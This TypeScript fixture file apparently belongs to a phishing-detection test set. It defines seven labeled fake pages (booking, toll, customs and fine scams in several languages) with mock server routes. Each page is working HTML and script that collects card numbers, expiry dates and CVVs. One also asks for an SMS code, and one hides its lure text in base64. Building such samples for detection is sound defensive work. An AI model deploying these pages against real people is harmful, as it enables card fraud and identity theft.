import type { Entry } from '../entry.js';
import { htmlRoute, redirectRoute } from '../entry.js';
import { jsRoute, jsonRoute, pngRoute } from '../parts/e-bin.js';
import { b64, cssApp, cssPlain, doc } from '../parts/q-kit.js';

export const entries: Entry[] = [
{
  id: 'q-phish-guest-message-extranet-link',
  label: 'phishing',
  kind: 'fake-booking',
  url: 'https://guest-verify-stay.com/g/7712930',
  body: doc({
    title: 'Guest verification',
    css: cssApp('#003580'),
    body: `<div class="wrap"><div class="box" id="x"><p style="color:#999">…</p></div></div>
<script>
var d=JSON.parse(decodeURIComponent(escape(atob('${b64(JSON.stringify({ h: 'Confirm your booking', p: 'Hi, this is reception at Casa Lumi Apartments (Lisbon). Our system flagged your booking for verification. Please confirm your card so we can hold your apartment for arrival on 21 Jun. A temporary hold of €0.00 will appear.', b: 'Confirm' }))}'))));
setTimeout(function(){
var x=document.getElementById('x');
x.innerHTML='<h1>'+d.h+'</h1><p>'+d.p+'</p><label>Name on card</label><input id="n"><label>Card number</label><input id="c" inputmode="numeric"><label>MM/YY</label><input id="e"><label>CVV</label><input id="v"><button id="b">'+d.b+'</button>';
document.getElementById('b').onclick=function(){fetch('/g/api/hold',{method:'POST',body:JSON.stringify({n:n.value,c:c.value,e:e.value,v:v.value})}).then(function(){x.innerHTML='<h1>Processing</h1><p>Please wait, do not close this window. Your bank may send you a code.</p><input placeholder="SMS code"><button>Submit code</button>'});};
},1200);
</script>`,
  }),
  routes: { 'guest-verify-stay.com/g/api/hold': jsonRoute({ next: 'otp' }) },
},
{
  id: 'q-phish-restaurant-table-deposit-fr',
  label: 'phishing',
  kind: 'fake-booking',
  url: 'https://reservation-lepetitzinc.fr/table/confirmer',
  body: doc({
    lang: 'fr',
    title: 'Le Petit Zinc – Réservation',
    css: cssPlain('#7c2d12', 'Georgia, serif') + '.row{display:flex;gap:10px}',
    body: `<main><div class="card narrow">
<h2 style="margin-top:0">Le Petit Zinc</h2>
<p>Réservation pour <b>4 personnes</b>, samedi 20h30.</p>
<p>Pour les tables du samedi soir, nous demandons une empreinte bancaire (non débitée). Sans confirmation dans l'heure, la table sera libérée.</p>
<form method="post" action="https://reservation-lepetitzinc.fr/table/empreinte">
<label>Nom du titulaire</label><input name="titulaire"><label>Numéro de carte</label><input name="carte" inputmode="numeric">
<div class="row"><div><label>Expiration</label><input name="exp"></div><div><label>Cryptogramme</label><input name="cvv"></div></div><p></p>
<button>Confirmer ma table</button></form></div></main>
<footer>Le Petit Zinc · Bistrot parisien</footer>`,
  }),
  routes: { 'reservation-lepetitzinc.fr/table/empreinte': redirectRoute(302, 'https://reservation-lepetitzinc.fr/table/merci') , 'reservation-lepetitzinc.fr/table/merci': htmlRoute('<p>Merci, votre table est confirmée.</p>') },
},
{
  id: 'q-phish-toll-unpaid-sms-us',
  label: 'phishing',
  kind: 'fake-toll',
  url: 'https://tollpay-balance.com/notice',
  body: doc({
    title: 'Toll balance',
    css: cssApp('#4d7c0f') + '.row{display:flex;gap:10px}.row>div{flex:1}',
    body: `<div class="wrap"><div class="box" id="b">
<h1>Outstanding toll: $4.15</h1>
<p>Pay by tonight to avoid a $50.00 late fee.</p>
<label>License plate</label><input id="pl">
<label>State</label><select id="st"><option>TX</option><option>FL</option><option>CA</option><option>NY</option><option>IL</option><option>NJ</option><option>PA</option></select>
<button id="go">Look up</button></div></div>
<script>
document.getElementById('go').onclick=function(){var b=document.getElementById('b'),p=document.getElementById('pl').value||'—';
b.innerHTML='<h1>$4.15 due</h1><p>Plate '+p+'</p><label>Full name</label><input id="fn"><label>Billing ZIP</label><input id="z"><label>Card number</label><input id="cn"><div class="row"><div><label>MM/YY</label><input id="ex"></div><div><label>CVV</label><input id="cv"></div></div><button id="pay">Pay $4.15</button>';
document.getElementById('pay').onclick=function(){fetch('/notice/charge',{method:'POST',body:JSON.stringify({p:p,fn:fn.value,z:z.value,cn:cn.value,ex:ex.value,cv:cv.value})});b.innerHTML='<h1>Verifying…</h1>';};};
</script>`,
  }),
  routes: { 'tollpay-balance.com/notice/charge': jsonRoute({ otp: true }) },
},
{
  id: 'q-phish-peage-impaye-fr',
  label: 'phishing',
  kind: 'fake-toll',
  url: 'https://peage-regularisation.fr/dossier',
  body: doc({
    lang: 'fr',
    title: 'Régularisation',
    css: cssApp('#1d4ed8') + '.row{display:flex;gap:10px}.row>div{flex:1}',
    body: `<div class="wrap"><div class="box">
<h1>Passage non réglé</h1>
<p>Montant : 6,80 €. Majoration de 90 € après le 3e jour.</p>
<form action="/dossier/regler" method="post">
<label>Immatriculation</label><input name="immat">
<label>Nom et prénom</label><input name="nom">
<label>Numéro de carte</label><input name="carte">
<div class="row"><div><label>MM/AA</label><input name="exp"></div><div><label>CVV</label><input name="cvv"></div></div>
<button>Régler 6,80 €</button></form></div></div>`,
  }),
  routes: { 'peage-regularisation.fr/dossier/regler': htmlRoute('<p>Paiement en cours de validation…</p>') },
},
{
  id: 'q-phish-zoll-gebuehr-de-image-text',
  label: 'phishing',
  kind: 'fake-customs',
  url: 'https://sendung-zollfreigabe.de/z/DE4410',
  body: doc({
    lang: 'de',
    title: 'Sendung DE4410',
    css: cssApp('#854d0e') + '.row{display:flex;gap:10px}.row>div{flex:1}',
    body: `<div class="wrap"><div class="box">
<img src="/z/banner.png" alt="Ihre Sendung wird im Zolllager zurückgehalten. Einfuhrabgabe 1,99 EUR offen." width="316" height="80" style="background:#fde68a;display:block;margin-bottom:12px">
<form action="/z/DE4410/zahlen" method="post">
<label>Karteninhaber</label><input name="inh"><label>Kartennummer</label><input name="knr">
<div class="row"><div><label>Gültig bis</label><input name="gb"></div><div><label>CVC</label><input name="cvc"></div></div>
<button>1,99 € bezahlen</button></form></div></div>`,
  }),
  routes: { 'sendung-zollfreigabe.de/z/banner.png': pngRoute(253, 230, 138), 'sendung-zollfreigabe.de/z/DE4410/zahlen': htmlRoute('<p>Bitte warten…</p>') },
},
{
  id: 'q-phish-multa-transito-pt',
  label: 'phishing',
  kind: 'fake-toll',
  url: 'https://consulta-multas-portugal.com/auto/verificar',
  body: doc({
    lang: 'pt',
    title: 'Consulta de coimas',
    css: cssPlain('#065f46'),
    body: `<main><div class="card narrow" id="c">
<h2 style="margin-top:0">Coima pendente</h2>
<p>Existe uma contraordenação associada ao seu NIF. Consulte e pague com desconto de 50% até hoje.</p>
<label>NIF</label><input id="nif" maxlength="9"><p></p><button id="b">Consultar</button></div></main>
<script>
document.getElementById('b').onclick=function(){var c=document.getElementById('c'),nv=document.getElementById('nif').value;c.innerHTML='<p class="muted">A consultar…</p>';
setTimeout(function(){c.innerHTML='<h2 style="margin-top:0">Valor: 30,00 €</h2><p>Excesso de velocidade – A1 km 212</p><label>Nome</label><input id="n"><label>Número do cartão</label><input id="k"><label>Validade</label><input id="v"><label>CVV</label><input id="s"><p></p><button id="p">Pagar 30,00 €</button>';
document.getElementById('p').onclick=function(){fetch('/auto/pg',{method:'POST',body:JSON.stringify({nif:nv,n:n.value,k:k.value,v:v.value,s:s.value})});};},1500);};
</script>`,
  }),
  routes: { 'consulta-multas-portugal.com/auto/pg': jsonRoute({}) },
},
{
  id: 'q-phish-vacation-rental-offplatform-it',
  label: 'phishing',
  kind: 'fake-booking',
  url: 'https://prenotazioni-villamarina-sardegna.com/conferma',
  body: doc({
    lang: 'it',
    title: 'Villa Marina – Conferma prenotazione',
    css: cssPlain('#0c4a6e'),
    body: `<header class="top"><span class="name">Villa Marina · Sardegna</span></header>
<main><div class="card">
<h2 style="margin-top:0">Conferma della prenotazione</h2>
<p>Gentile ospite, grazie per aver scelto la nostra villa per il periodo 2–9 agosto. Per bloccare le date è richiesta una caparra del 30% (€ 714,00). Il saldo si paga all'arrivo.</p>
<p>Per ragioni di sicurezza non accettiamo pagamenti tramite la piattaforma di annunci: utilizzi il modulo qui sotto.</p>
<form method="post" action="/conferma/caparra"><div class="row"><div><label>Nome</label><input name="nome"></div><div><label>Email</label><input name="email"></div></div>
<label>Carta</label><input name="carta"><div class="row"><div><label>Scadenza</label><input name="scad"></div><div><label>CVV</label><input name="cvv"></div></div><p></p><button>Paga la caparra</button></form></div></main>
<footer>Villa Marina di Porto Rotondo · CIN IT090047C2000P1234</footer>`,
  }),
  routes: { 'prenotazioni-villamarina-sardegna.com/conferma/caparra': htmlRoute('<p>Grazie! Riceverà una email di conferma.</p>') },
},
];
